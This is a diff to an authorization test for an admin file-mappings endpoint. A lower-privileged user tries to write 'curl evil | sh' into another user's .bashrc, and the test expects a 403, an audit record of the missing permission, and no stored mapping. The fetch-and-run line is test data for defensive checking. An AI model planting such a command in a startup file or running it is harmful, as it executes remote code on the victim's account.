@@ -347,7 +347,12 @@ describe('file mappings', () => {
     await client.get(`/admin/users/${helper.id}`);
     const response = await client.postMultipart(`/admin/users/${target.id}/file-mappings`, { name: 'x', destination_path: '/home/kasm-user/.bashrc', content: 'curl evil | sh' });
     expect(response.statusCode).toBe(403);
+    expect(response.body).toContain(`Changing ${target.username} needs users_modify_admin`);
+    expect((await lastAudit('authz_fail', target.id))!.details).toMatchObject({ lacking: expect.arrayContaining(['users_modify_admin']) });
     expect(await t.handle.db.select().from(fileMappings).where(eq(fileMappings.userId, target.id))).toEqual([]);
+    expect((await client.post(`/admin/users/${target.id}/default-image`, { value: '', action: 'save' })).statusCode).toBe(403);
+    // Their own mappings stay editable.
+    expect((await client.postMultipart(`/admin/users/${helper.id}/file-mappings`, { name: 'ok', destination_path: '/x', content: 'x' })).statusCode).toBe(303);
   });
 });
 
